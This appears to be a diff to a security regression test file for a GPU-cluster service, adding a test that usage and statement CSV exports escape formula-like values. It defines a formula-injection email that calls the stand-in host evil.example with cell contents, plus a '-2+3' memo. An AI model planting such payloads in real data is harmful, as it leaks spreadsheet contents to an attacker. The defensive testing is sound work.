@@ -3,6 +3,7 @@ plans, admission). Each test is an attack that worked before its fix; in-process
 
 from __future__ import annotations
 
+import csv
 import io
 import tarfile
 import threading
@@ -345,3 +346,31 @@ def test_a_member_at_their_spend_limit_does_not_keep_others_work_from_idle_gpus(
     assert state[theirs][0] != "pending", f"another tenant's job waits at 8 idle GPUs: {state[theirs]}"
     for wid in queued:
         assert state[wid][0] == "pending" and state[wid][1].startswith("waiting for spend limit"), state[wid]
+
+
+# ---- CSV a spreadsheet opens -----------------------------------------------------------------------------------------
+EVIL = '=hyperlink("http://evil.example/?"&a1)@evil.example'  # emails are kept in lower case
+
+
+def test_a_members_email_in_a_usage_csv_is_text_not_a_formula(api: TestClient) -> None:
+    """A member signed up with an email a spreadsheet runs as a formula (`=HYPERLINK(...)@…` is a valid address);
+    the owner's usage CSV put it in a cell as it was."""
+    operator = bearer(admin_token(api))
+    assert api.post(f"{API}/admin/clusters", json={"preset": "1x8:H20"}, headers=operator).status_code == 201
+    owner, evil = signup(api, "owner@example.com"), signup(api, EVIL)
+    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
+    join(api, owner, org, evil, "member")
+    assert api.post(f"{API}/admin/orgs/{org}/transactions", json={"amount": "100", "memo": "-2+3"},
+                    headers=operator).status_code == 201  # fmt: skip
+    spec = {"name": "x", "command": "true", "duration": 60, "resources": {"gpu": "H20", "gpus": 1}}
+    assert api.post(f"{API}/workloads", json={"spec": spec, "org": org}, headers=evil.headers).status_code == 201
+    srv = api.app.state.server  # type: ignore[attr-defined]
+    SchedulingPass().run(srv.db, utcnow())
+    r = api.get(f"{API}/orgs/{org}/usage", params={"format": "csv"}, headers=owner.headers)
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert [row["user"] for row in rows] == ["'" + EVIL], rows
+    assert api.get(f"{API}/orgs/{org}/usage", headers=owner.headers).json()[0]["user"] == EVIL, "JSON as it is"
+    r = api.get(f"{API}/orgs/{org}/statement", params={"format": "csv"}, headers=owner.headers)
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert rows[0]["memo"] == "'-2+3" and rows[0]["amount"] == "100.00000000", rows
